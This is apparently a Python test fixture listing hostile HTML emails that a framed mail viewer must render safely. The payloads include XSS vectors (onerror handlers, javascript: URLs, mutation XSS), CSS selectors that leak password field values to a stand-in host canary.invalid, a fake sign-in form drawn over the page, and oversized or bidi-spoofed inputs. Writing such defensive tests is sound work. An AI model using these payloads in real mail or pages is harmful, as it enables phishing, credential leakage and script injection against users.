"""More HTML of hostile mails, beside `tests.corpus.hostile_html`: what a page that shows mail in a frame has to withstand.

`CANARY` stands for the origin of a server that must never be asked.
"""

from __future__ import annotations

CANARY = "https://canary.invalid"
_X = f"{CANARY}/x"

KINDS = {
    "style sheet that covers the page": "<style>html,body{position:fixed;inset:0;z-index:2147483647;background:red}"
    "p{position:fixed;inset:-9999px;width:300vw;height:300vh}</style><p>seen</p>",
    "position fixed and a negative margin": "<div style='position:fixed;top:-500px;left:-500px;width:5000px;"
    "height:5000px;background:red;z-index:99999'>seen</div>",
    "full screen and top layer": "<dialog open style='position:fixed;inset:0'>seen</dialog><div popover=manual>p</div>",
    "login form drawn over everything": f"<form action='{_X}' method=post target=_top style='position:fixed;inset:0'>"
    "<input type=password name=p autofocus><button>Sign in</button></form><p>seen</p>",
    "form outside by attribute": f"<p>seen</p><input form=f name=q><button form=f formaction='{_X}' formtarget=_top>b</button><form id=f></form>",
    "animation without end": "<style>@keyframes a{to{transform:translate(9999px,9999px) scale(99)}}*{animation:a 1ms infinite}"
    "</style><p>seen</p>",
    "view transition and scroll": "<style>@view-transition{navigation:auto}html{scroll-behavior:smooth}</style>"
    "<p id=a style='height:9999px'>seen</p><a href='#a' autofocus>b</a>",
    "marquee and blink": "<marquee onstart=alert(1) scrollamount=9999>seen</marquee><blink>b</blink>",
    "style sheet that reads a password field": f"<style>input[value^=a]{{background:url({_X}?a)}}"
    f"input[value$=z]{{list-style:url({_X}?z)}}</style><input value=abcz><p>seen</p>",
    "style sheet that reads visited links": f"<style>a:visited{{background:url({_X}?v);color:red}}"
    f"a:visited span{{background-image:url({_X}?w)}}</style><a href='/ui/'><span>seen</span></a>",
    "style sheet by :has and @container": f"<style>body:has(p){{background:url({_X})}}@container (width>1px){{p{{background:url({_X})}}}}"
    f"@media all{{p{{border-image:url({_X}) 1}}}}@supports(display:grid){{p{{mask:url({_X})}}}}</style><p>seen</p>",
    "style sheet in layers and scopes": f"<style>@layer a{{p{{background:url({_X})}}}}@scope(p){{:scope{{background:url({_X})}}}}"
    f"@property --x{{syntax:'*';inherits:false;initial-value:url({_X})}}p{{background:var(--x)}}</style><p>seen</p>",
    "style sheet by cross-fade, element and src": f"<p style='background:cross-fade(url({_X}),url({_X}),50%);content:src(\"{_X}\")'>seen</p>",
    "style sheet by generated content and lists": f"<style>p::before{{content:url({_X})}}li{{list-style-image:url({_X})}}"
    f"p{{cursor:url({_X}),auto;filter:url({_X}#f);clip-path:url({_X}#c);shape-outside:url({_X});offset-path:url({_X}#o)}}</style>"
    "<p>seen</p><li>b</li>",
    "style sheet of another character set": f"<style>@charset 'utf-7';@namespace url({_X});@import url('{_X}') layer(a);</style><p>seen</p>",
    "font by local and remote": f"<style>@font-face{{font-family:a;src:local(x),url('{_X}') format('woff2');unicode-range:U+73}}"
    "p{font-family:a}</style><p>seen</p>",
    "hints to load ahead": "".join(
        f"<link rel='{kind}' href='{_X}?{kind.replace(' ', '')}' as=script>"
        for kind in (
            *("prefetch", "preload", "modulepreload", "preconnect", "dns-prefetch", "prerender", "stylesheet"),
            *("icon", "manifest", "alternate stylesheet", "pingback", "next", "compression-dictionary", "import"),
        )
    )
    + "<p>seen</p>",
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["'
    + _X
    + '"]}]}</script><script type=importmap>{"imports":{"a":"/x"}}</script><p>seen</p>',
    "picture, source and sizes": f"<picture><source media='(min-width:1px)' srcset='{_X} 1x,{_X} 2x'><img src='{_X}' "
    f"srcset='{_X} 400w' sizes=auto loading=eager fetchpriority=high attributionsrc='{_X}'></picture><p>seen</p>",
    "video, audio and poster": f"<video autoplay muted poster='{_X}'><source src='{_X}'></video><audio autoplay src='{_X}'></audio><p>seen</p>",
    "image input and button": f"<input type=image src='{_X}' formaction='{_X}'><isindex action='{_X}'><p>seen</p>",
    "old attributes that fetch": f"<body background='{_X}'><table background='{_X}'><tr background='{_X}'><td dynsrc='{_X}' lowsrc='{_X}'>"
    f"seen</td></tr></table><img longdesc='{_X}' usemap='{_X}#m'><bgsound src='{_X}'><xml src='{_X}'></xml>",
    "svg that fetches": f"<svg><image xlink:href='{_X}'/><use href='{_X}#a'/><feImage href='{_X}'/><pattern href='{_X}'/>"
    f"<style>@import '{_X}'</style><foreignObject><img src='{_X}'></foreignObject><set attributeName=href to='{_X}'/></svg><p>seen</p>",
    "svg that scripts": "<svg><script href='data:text/javascript,alert(1)'/><animate onbegin=alert(1) attributeName=x dur=1s>"
    "<a xlink:href='javascript:alert(1)'><text y=20>t</text></a></svg><p>seen</p>",
    "math that links": f"<p>seen</p><math href='javascript:alert(1)'><mi xlink:href='{_X}' actiontype=toggle>x</mi><annotation-xml encoding=text/html>"
    "<script>alert(1)</script></annotation-xml></math>",
    "object, embed, applet and param": f"<object data='{_X}' type=text/html><param name=movie value='{_X}'></object>"
    f"<object data='data:text/html,<script>parent.postMessage(1,\"*\")</script>'></object><embed src='{_X}' type=image/svg+xml><p>seen</p>",
    "frames of every kind": f"<iframe src='{_X}'></iframe><iframe srcdoc='<script>top.document.title=1</script>'></iframe>"
    f"<iframe src='javascript:alert(1)'></iframe><fencedframe src='{_X}'></fencedframe><frameset><frame src='{_X}'></frameset><p>seen</p>",
    "frame of the page itself": "<iframe src='/ui/' name=own></iframe><a href='/ui/account/keys' target=own>seen</a>",
    "meta of every kind": f"<meta http-equiv=refresh content='0;url=/ui/sign-in'><meta http-equiv=refresh content='0;{_X}'>"
    "<meta http-equiv=Set-Cookie content='a=b'><meta http-equiv=Content-Security-Policy content=\"default-src *\">"
    "<meta name=referrer content=unsafe-url><meta http-equiv=origin-trial content=x><p>seen</p>",
    "base and a target for all": f"<base href='{_X}' target=_top><a href='y'>seen</a><img src='z.png'>",
    "client of the API": "<a href='/api/v1/account'>seen</a><img src='/api/v1/account'><form action='/api/v1/auth/logout' method=post>"
    "<button>b</button></form><link rel=stylesheet href='/openapi.json'>",
    "event handlers of new kinds": "<p onpointerrawupdate=alert(1) onanimationstart=alert(1) style='animation:a 1s'>seen</p>"
    "<details open ontoggle=alert(1)>d</details><img src onerror=alert(1) onloadend=alert(1)><body onpageshow=alert(1) onhashchange=alert(1)>"
    "<xss oncontentvisibilityautostatechange=alert(1) style='display:block;content-visibility:auto'><input onbeforetoggle=alert(1)>",
    "script that speaks to the page": "<script>parent.postMessage('x','*');top.document.title='x';localStorage.x=1;"
    "sessionStorage.x=1;opener&&opener.location.assign('/x');new BroadcastChannel('x').postMessage(1)</script><p>seen</p>",
    "names that shadow the document's": "<form name=body><input name=firstChild><input name=attributes></form><img name=currentScript>"
    "<a id=location href='javascript:alert(1)'>seen</a><form id=app></form><img id=main name=getElementById>",
    "ids of the page": "<div id=app>seen</div><main id=main tabindex=1 autofocus accesskey=j>b</main><dialog id=d open>c</dialog>",
    "mutation by nested noscript and style": "<noscript><style><p title='</style></noscript><img src=x onerror=alert(1)>'></style></noscript><p>seen</p>",
    "mutation by table and select": "<table><select><style><img src=x onerror=alert(1)></style></select></table><p>seen</p>",
    "mutation by plaintext and comments": "<p>seen</p><!--[if]><script>alert(1)</script --><!-->-->--!><plaintext><script>alert(1)</script>",
    "mutation by depth": "<p>seen</p>"
    + "<div>" * 600
    + "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "declarative shadow root": f"<div><template shadowrootmode=open><script>alert(1)</script><img src='{_X}'><style>:host{{background:url({_X})}}"
    "</style></template>seen</div>",
    "content editable and drop": "<div contenteditable autofocus onfocus=alert(1) ondrop=alert(1) draggable=true>seen</div>",
    "data URL in every place": "<a href='data:text/html,<script>alert(1)</script>' target=_top>seen</a><img src='data:text/html,<script>alert(1)</script>'>"
    "<a href='data:image/svg+xml,<svg onload=alert(1)>' download>b</a>",
    "URL with odd schemes": "<a href='intent://x'>seen</a><a href='ms-settings:x'>b</a><a href='blob:x'>c</a><a href='filesystem:x'>d</a>"
    "<a href='view-source:x'>e</a><a href='JaVaScRiPt&NewLine;:alert(1)'>f</a><a href='\x01javascript:alert(1)'>g</a>",
    "URL that means another host": f"<a href='\\\\canary.invalid/x'>seen</a><a href='/\\canary.invalid'>b</a><img src='///canary.invalid/x'>"
    f"<img src='http:{_X.removeprefix('https:')}'><img src='{_X.upper()}'>",
    "text that runs in both directions": "<p>seen \u202e\u2066\u202d txt.exe</p><bdo dir=rtl>abc</bdo><p dir=rtl style='direction:rtl;unicode-bidi:bidi-override'>x</p>",
    "part of the mail by cid that is none": "<img src='cid:nothing'><img src='mid:a/b'><link rel=stylesheet href='cid:x'>"
    "<style>p{background:url(cid:x)}</style><p>seen</p>",
    "trusted types and import": "<script type=module>import('/ui/')</script><script async defer nonce=x integrity=y src=/ui/></script><p>seen</p>",
}
"""Each shows the word `seen`."""

LARGE = {
    "5 MB of paragraphs": lambda: "<p>seen</p>" + "<p>lorem <b>ipsum</b> dolor sit amet</p>" * 125_000,
    "100,000 nested divs": lambda: "<p>seen</p>" + "<div>" * 100_000,
    "a word of a million letters": lambda: f"<p>seen</p><p>{'w' * 1_000_000}</p>",
    "a table of 40,000 cells": lambda: "<p>seen</p><table>" + ("<tr>" + "<td>x</td>" * 200) * 200,
}

TEXTS = {
    "markup": "<img src=x onerror=alert(1)><b>bold</b>&lt;i&gt;",
    "directions": "invoice\u202efdp.exe \u2066\u2067 end",
    "closing tags": "</bdi></li></main><script>alert(1)</script>",
    "very long": "w" * 1_000,
    "emoji and marks": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 e\u0301\u0301\u0301\u0301 Z\u0337\u0335\u0336",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
}
